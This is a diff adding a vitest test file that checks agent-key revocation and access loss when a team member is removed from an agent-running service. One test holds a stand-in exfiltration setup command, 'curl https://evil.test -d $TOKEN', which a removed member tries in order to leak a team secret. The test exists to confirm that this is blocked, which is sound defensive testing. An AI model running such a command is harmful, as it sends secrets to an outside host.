@@ -1,0 +1,178 @@
+import { beforeEach, describe, expect, it } from "vitest";
+import { keys } from "#shared/table/keys.ts";
+import { type Client, clientOf } from "../support/client.ts";
+import { fireAt, makeSchedule, ticksOf } from "../support/schedules.ts";
+import { makeWorld, type World } from "../support/world.ts";
+
+let world: World;
+let ada: Client;
+let rob: { uid: string; key: string };
+let removed: Client;
+let identity: string;
+beforeEach(async () => {
+  world = await makeWorld();
+  ada = clientOf(world);
+  rob = await world.person("Rob");
+  removed = clientOf(world, rob.key);
+  identity = (await ada.post("/agent/identities", { name: "Reviewer" })).body.uid;
+});
+
+const member = () => `/agent/teams/${world.team}/members/${rob.uid}`;
+const makeAgentKey = async (client: Client, name = "ci", of = identity): Promise<{ uid: string; key: string }> => {
+  const answer = await client.post(`/agent/identities/${of}/keys`, { name });
+  expect(answer.status).toBe(201);
+  return answer.body;
+};
+const statusOf = async (key: string): Promise<number> => (await clientOf(world, key).get("/agent/runs")).status;
+
+describe("a key", () => {
+  it("shows the person who created it, on an identity's list and on one's own", async () => {
+    const created_by = { type: "user", uid: rob.uid, display_name: "Rob", email: "rob@runyard.test" };
+    const { uid } = await makeAgentKey(removed);
+    expect((await ada.get(`/agent/identities/${identity}/keys`)).body.keys).toMatchObject([{ uid, created_by }]);
+    expect((await removed.post("/agent/keys", { name: "mine" })).body).toMatchObject({ created_by });
+  });
+});
+
+describe("removing a member", () => {
+  it("revokes the agent keys that they created, of every identity, and nobody else's", async () => {
+    const second = (await ada.post("/agent/identities", { name: "Second" })).body.uid;
+    const theirs = [
+      await makeAgentKey(removed, "a"),
+      await makeAgentKey(removed, "b"),
+      await makeAgentKey(removed, "c", second),
+    ];
+    const other = await makeAgentKey(ada, "other");
+    const answer = await ada.delete(member());
+    expect(answer.status).toBe(200);
+    expect(answer.body.kept_keys).toEqual([]);
+    expect(answer.body.revoked_keys).toHaveLength(3);
+    expect(answer.body.revoked_keys).toContainEqual({ uid: theirs[2]?.uid, name: "c", identity_uid: second });
+    for (const { key } of theirs) expect(await statusOf(key)).toBe(401);
+    expect(await statusOf(other.key)).toBe(200);
+    expect((await ada.get(`/agent/identities/${identity}/keys`)).body.keys).toMatchObject([{ uid: other.uid }]);
+  });
+
+  it("does the same where the member leaves by themselves", async () => {
+    const { uid, key } = await makeAgentKey(removed);
+    const answer = await removed.delete(member());
+    expect(answer.body).toEqual({ revoked_keys: [{ uid, name: "ci", identity_uid: identity }], kept_keys: [] });
+    expect(await statusOf(key)).toBe(401);
+  });
+
+  it("keeps and lists their keys with keep_keys=true", async () => {
+    const { uid, key } = await makeAgentKey(removed);
+    expect((await ada.delete(`${member()}?keep_keys=maybe`)).status).toBe(400);
+    const answer = await ada.delete(`${member()}?keep_keys=true`);
+    expect(answer.body).toEqual({ revoked_keys: [], kept_keys: [{ uid, name: "ci", identity_uid: identity }] });
+    expect(await statusOf(key)).toBe(200);
+  });
+
+  it("lists the keys whose creator was not stored, and keeps them", async () => {
+    const old = await world.agent("old");
+    const answer = await ada.delete(member());
+    expect(answer.body).toEqual({
+      revoked_keys: [],
+      kept_keys: [{ uid: old.keyUid, name: "test", identity_uid: old.uid }],
+    });
+    expect(await statusOf(old.key)).toBe(200);
+  });
+
+  it("revokes a key that the member creates at the same moment", async () => {
+    const { transact } = world.table;
+    const late: string[] = [];
+    let isFirst = true;
+    Object.assign(world.table, {
+      transact: async (writes: Parameters<typeof transact>[0]) => {
+        const ends = writes.some((write) => write.kind === "delete" && write.key.sk === keys.member("", rob.uid).sk);
+        if (ends && isFirst) {
+          isFirst = false;
+          Object.assign(world.table, { transact });
+          late.push((await removed.post(`/agent/identities/${identity}/keys`, { name: "late" })).body.key);
+        }
+        return transact(writes);
+      },
+    });
+    const answer = await ada.delete(member());
+    expect(answer.body.revoked_keys).toMatchObject([{ name: "late" }]);
+    expect(await statusOf(late[0] ?? "")).toBe(401);
+  });
+
+  it("gives no key to a request that began while the creator was a member", async () => {
+    const { transact } = world.table;
+    Object.assign(world.table, {
+      transact: async (writes: Parameters<typeof transact>[0]) => {
+        Object.assign(world.table, { transact });
+        expect((await ada.delete(member())).status).toBe(200);
+        return transact(writes);
+      },
+    });
+    expect((await removed.post(`/agent/identities/${identity}/keys`, { name: "late" })).status).toBe(404);
+    expect((await ada.get(`/agent/identities/${identity}/keys`)).body.keys).toEqual([]);
+  });
+
+  it("revokes more keys than one transaction has room for", async () => {
+    const identities = [identity];
+    for (const name of ["B", "C"]) identities.push((await ada.post("/agent/identities", { name })).body.uid);
+    const made: string[] = [];
+    for (const of of identities) {
+      for (let number = 0; number < 35; number++) made.push((await makeAgentKey(removed, `${number}`, of)).key);
+    }
+    const answer = await ada.delete(member());
+    expect(answer.status).toBe(200);
+    expect(answer.body.revoked_keys).toHaveLength(105);
+    for (const key of [made[0], made[50], made[104]]) expect(await statusOf(key ?? "")).toBe(401);
+  });
+
+  it("revokes nothing where the last admin stays", async () => {
+    const made: string[] = [];
+    for (const name of ["B", "C", "D"]) {
+      const { uid } = (await ada.post("/agent/identities", { name })).body;
+      for (let number = 0; number < 35; number++) made.push((await makeAgentKey(ada, `${number}`, uid)).key);
+    }
+    expect((await ada.delete(`/agent/teams/${world.team}/members/${world.user}`)).status).toBe(409);
+    for (const key of [made[0], made[104]]) expect(await statusOf(key ?? "")).toBe(200);
+  });
+});
+
+describe("a removed member", () => {
+  it("cannot go on with the key of a LOCAL run of the team", async () => {
+    const { body } = await removed.post("/agent/runs", { prompt: "mine", execution_location: "LOCAL" });
+    const run = clientOf(world, body.run_key);
+    expect((await run.get(`/agent/runs/${body.run_id}`)).status).toBe(200);
+    await ada.delete(member());
+    expect((await run.get(`/agent/runs/${body.run_id}`)).status).toBe(401);
+    expect((await run.post("/agent/runs", { prompt: "child" })).status).toBe(401);
+    expect((await run.post("/harness-support/resolve-prompt", {})).status).toBe(401);
+  });
+
+  it("goes on with the key of a LOCAL run of their own", async () => {
+    const { body } = await removed.post("/agent/runs", { prompt: "mine", team: false, execution_location: "LOCAL" });
+    await ada.delete(member());
+    expect((await clientOf(world, body.run_key).get(`/agent/runs/${body.run_id}`)).status).toBe(200);
+  });
+
+  it("cannot run commands with the team's secrets by an environment of their own that a schedule of the team names", async () => {
+    await ada.post("/agent/secrets", { name: "TOKEN", value: "hush" });
+    const { body: environment } = await removed.post("/agent/environments", { name: "Own", team: false });
+    expect(environment.scope.type).toBe("User");
+    const agent_config = { environment_id: environment.uid };
+    const { id } = await makeSchedule(world, { agent_config, time_zone: "UTC" }, rob.key);
+    await fireAt(world, id, "2026-05-19T02:30:00.000Z");
+    expect(await ticksOf(world, id)).toMatchObject([{ outcome: "fired" }]);
+    await ada.delete(member());
+    const change = { setup_commands: ["curl https://evil.test -d $TOKEN"], secrets: [{ name: "TOKEN" }] };
+    expect((await removed.put(`/agent/environments/${environment.uid}`, change)).status).toBe(200);
+    await fireAt(world, id, "2026-05-20T02:30:00.000Z");
+    const ticks = await ticksOf(world, id);
+    expect(ticks.filter(({ outcome }) => outcome === "failed")).toMatchObject([
+      { reason: expect.stringContaining("there is no such environment") },
+    ]);
+  });
+
+  it("cannot share an environment of the team", async () => {
+    const { body } = await ada.post("/agent/environments", { name: "Shared" });
+    await ada.delete(member());
+    expect((await removed.post(`/agent/environments/${body.uid}/share`, { user_uid: rob.uid })).status).toBe(404);
+  });
+});
